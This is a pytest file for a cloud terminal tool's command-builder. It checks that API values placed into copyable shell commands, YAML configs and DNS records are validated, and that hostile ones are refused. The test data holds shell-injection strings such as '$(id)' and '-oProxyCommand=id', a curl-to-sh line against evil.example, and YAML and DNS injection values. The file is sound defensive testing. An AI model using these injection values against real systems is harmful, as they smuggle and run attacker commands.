"""Commands, snippets and configurations offered to copy (`tui/products/kit/commands.py`): each value is
checked against what it must be and quoted for where it goes, and a value from the API that would
make a pasted command run something else is refused with the reason — never built (issue 32)."""

from __future__ import annotations

import json
import shlex

import pytest

from tui.products.kit import commands
from tui.products.kit.commands import CommandRefused
from tui.products.kit.location import ParentRef
from tui.products.kit.rows import Row

HOSTILE = [
    "rg.fr-par.cr.example;id>pwned.txt;#",
    "$(id)",
    "`id`",
    "a\nid",
    "a b",
    "a'b",
    'a"b',
    "a|sh",
    "",
    "-oProxyCommand=id",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(
    "kind",
    [commands.host, commands.address, commands.tag, commands.image, commands.token, commands.uuid, commands.path],
)
def test_a_hostile_value_is_refused_with_its_name_and_why(kind, value):
    with pytest.raises(CommandRefused) as refused:
        commands.command("run {x}", x=kind("the thing", value))
    assert refused.value.reason.startswith("the thing ")
    assert "\n" not in refused.value.reason  # one line, the value's control characters shown escaped


def test_a_refusal_quotes_the_value_as_the_list_shows_it():
    """Walk: an endpoint shown as `\\x00\\x9b31m` in a list (its control characters made visible when
    read) was quoted `\\\\x00\\\\x9b31m` in the refusal (escaped twice)."""
    from tui.api.safe import clean
    from tui.products.kit.commands import host

    shown = clean("rg.example\x00\x9b31m")  # as the answer was cleaned when read
    with pytest.raises(CommandRefused) as refused:
        host("the registry host", shown).checked()
    assert f"'{shown}'" in refused.value.reason
    with pytest.raises(CommandRefused) as refused:
        host("the registry host", "rg\x1b]52;c;SGk=\x07").checked()  # a raw one: made visible once
    assert "'rg\\x1b]52;c;SGk=\\x07'" in refused.value.reason


@pytest.mark.parametrize(
    "value", ["100; curl -s evil.example/x | sh; echo", "0", "4095", "1e3", "-", "12-", "", None, " 100"]
)
def test_an_integer_outside_its_range_or_not_a_number_is_refused(value):
    with pytest.raises(CommandRefused):
        commands.command("id {v}", v=commands.integer("the VLAN id", value, 1, 4094))


@pytest.mark.parametrize(
    "value",
    [
        "https://x.example/p?q=1",
        "https://u:p@x.example/",
        "ftp://x.example/",
        "https://x.example/a b",
        "https://x.example/$(id)",
        "https://x.example:99999/",
        "https://x;id/",
    ],
)
def test_a_url_that_is_not_plain_is_refused(value):
    with pytest.raises(CommandRefused):
        commands.config("url: {u}", u=commands.url("the address", value))


def test_plain_values_are_built_and_shell_quoted():
    made = commands.command(
        "docker pull {h}/{n}:{t} {p}",
        h=commands.address("h", "rg.fr-par.cr.example:5000"),
        n=commands.image("n", "team/web-app"),
        t=commands.tag("t", "v1.4.2"),
        p=commands.path("p", "/tmp/a b"[:6]),
    )
    assert made == "docker pull rg.fr-par.cr.example:5000/team/web-app:v1.4.2 /tmp/a"
    assert commands.command("x {p}", p=commands.path("p", "a:b=c")) == "x " + shlex.quote("a:b=c")
    assert commands.command("id {v}", v=commands.integer("v", 100, 1, 4094)) == "id 100"
    assert commands.command("p {v}", v=commands.port("v", "8443")) == "p 8443"


def test_a_configuration_writes_each_value_as_a_quoted_yaml_string():
    made = commands.config(
        "url: {u}\ntoken: {t}", u=commands.url("u", "https://m.example/api/v1/push"), t=commands.token("t", "0123")
    )
    assert made == 'url: "https://m.example/api/v1/push"\ntoken: "0123"'  # a token of digits stays a string
    assert json.loads(made.split("token: ")[1]) == "0123"


def test_the_secret_key_goes_only_to_a_host_of_the_profiles_origins():
    origins = ("https://api.example", "https://genai.example", "https://rg.fr-par.cr.example")
    assert (
        commands.key_goes_to(commands.host("the registry host", "rg.fr-par.cr.example"), origins)
        == "rg.fr-par.cr.example"
    )
    with pytest.raises(CommandRefused) as refused:
        commands.key_goes_to(commands.host("the registry host", "rg.evil.example"), origins)
    assert "allowed_origins" in refused.value.reason and "rg.evil.example" in refused.value.reason
    with pytest.raises(CommandRefused):
        commands.key_goes_to(commands.host("the registry host", "api.example.evil"), origins)


# ---- each product's commands --------------------------------------------------------------------
def namespace(endpoint):
    return Row({"id": "n1", "name": "web", "endpoint": endpoint, "status": "ready"})


def test_registry_login_from_a_hostile_endpoint_is_refused():
    from tui.products.container_registry.kinds import login_command, login_text

    for endpoint in (
        "rg.fr-par.cr.example;id>pwned.txt;#/web",
        "$(id)/web",
        "`id`/web",
        "rg.example\nid/web",
        "rg example/web",
    ):
        with pytest.raises(CommandRefused, match="the registry host"):
            login_command(namespace(endpoint))
        with pytest.raises(CommandRefused):
            login_text(namespace(endpoint))
    assert (
        login_command(namespace("rg.fr-par.cr.example/web"))
        == "docker login rg.fr-par.cr.example -u nologin --password-stdin"
    )


def test_registry_login_pipes_the_key_only_to_a_registry_of_the_profiles_origins():
    from tui.products.container_registry.kinds import login_text

    ok = namespace("rg.fr-par.cr.example/web")
    trusted = login_text(ok, None, origins=("https://api.example", "https://rg.fr-par.cr.example"))
    assert "printenv CLOUDTUI_SECRET_KEY | docker login rg.fr-par.cr.example" in trusted
    other = login_text(ok, None, origins=("https://api.example",))
    assert "printenv" not in other and "allowed_origins" in other
    assert "docker login rg.fr-par.cr.example -u nologin --password-stdin" in other  # the command itself is still there
    from tui.products.container_registry.kinds import piped_login

    line = piped_login(ok, None, origins=("https://rg.fr-par.cr.example",))  # what y copies: a line of the text
    assert line == "printenv CLOUDTUI_SECRET_KEY | docker login rg.fr-par.cr.example -u nologin --password-stdin"
    assert line in trusted.split("\n")
    assert piped_login(ok, None, origins=()) == "docker login rg.fr-par.cr.example -u nologin --password-stdin"


def test_a_tags_pull_command_checks_its_parts():
    from tui.products.container_registry.kinds import pull_command, pull_field

    image = ParentRef(
        "i1", "frontend", "fr-par", data={"name": "frontend", "namespace_endpoint": "rg.fr-par.cr.example/web"}
    )
    tag = Row({"id": "t1", "name": "v1.4.2"})
    assert pull_command(tag, image) == "docker pull rg.fr-par.cr.example/web/frontend:v1.4.2"
    for hostile in ("v1;id", "$(id)", "`id`", "v1\nid", "v 1", "'x"):
        with pytest.raises(CommandRefused, match="the tag"):
            pull_command(Row({"id": "t1", "name": hostile}), image)
    bad_image = ParentRef(
        "i1", "x", "fr-par", data={"name": "front;id", "namespace_endpoint": "rg.fr-par.cr.example/web"}
    )
    with pytest.raises(CommandRefused, match="the image name"):
        pull_command(tag, bad_image)
    assert pull_field({"endpoint": "rg.fr-par.cr.example/web"}) == "docker pull rg.fr-par.cr.example/web/<image>:<tag>"
    assert pull_field({"endpoint": "rg;id/web"}).startswith("not offered: the registry host")


def test_the_vlan_snippet_takes_only_a_vlan_number_and_a_network_id():
    from tui.products.baremetal.networks import vlan_snippet

    pn = "2f1c4a6e-0000-4000-8000-000000000001"
    made = vlan_snippet(Row({"private_network_id": pn, "vlan": 100}, id_field="private_network_id"))
    assert "VLAN=100\n" in made and 'type vlan id "$VLAN"' in made and made.count("100") == 1
    for hostile in ("100 up; curl -s evil.example/x | sh; echo", "$(id)", "100\nid", 5000):
        with pytest.raises(CommandRefused, match="the VLAN id"):
            vlan_snippet(Row({"private_network_id": pn, "vlan": hostile}, id_field="private_network_id"))
    with pytest.raises(CommandRefused, match="private network"):
        vlan_snippet(Row({"private_network_id": "x\nid #", "vlan": 100}, id_field="private_network_id"))


def test_a_tokens_push_configurations_are_offered_only_from_plain_values():
    from tui.products.monitoring.kinds import token_once

    cockpit = ParentRef(
        "p",
        "Monitoring",
        "",
        data={"endpoints": {"metrics_url": "https://metrics.example", "logs_url": "https://logs.example"}},
    )
    token = Row({"id": "t1", "name": "ci", "scopes": {"write_metrics": True, "write_logs": True}})
    secrets, extras = token_once(token, {"secret_key": "0123456789"}, {}, cockpit)
    assert secrets["metrics push (prometheus.yml)"].endswith('X-Token: "0123456789"')
    assert 'url: "https://logs.example/loki/api/v1/push"' in secrets["logs push (promtail.yml)"]

    hostile = ParentRef(
        "p",
        "Monitoring",
        "",
        data={
            "endpoints": {
                "metrics_url": "https://metrics.example\n  - url: https://evil.example",
                "logs_url": "https://logs.example",
            }
        },
    )
    secrets, extras = token_once(token, {"secret_key": "0123456789"}, {}, hostile)
    assert "metrics push (prometheus.yml)" not in secrets
    assert extras["metrics push (prometheus.yml)"].startswith("not offered: the push address")
    assert "logs push (promtail.yml)" in secrets  # the other one is fine


def test_a_domains_validation_record_holds_only_its_domain_and_token():
    from tui.products.dns.kinds import txt_record

    def domain(name, token):
        return Row({"domain": name, "external_domain_registration_status": {"validation_token": token}})

    assert txt_record(domain("example.com", "abc-123")) == '_scaleway-challenge.example.com. 3600 IN TXT "abc-123"'
    for name, token in (("example.com", 'x"\nevil 3600 IN A 1.2.3.4'), ("example.com.\nevil", "abc"), ("a b", "abc")):
        with pytest.raises(CommandRefused):
            txt_record(domain(name, token))
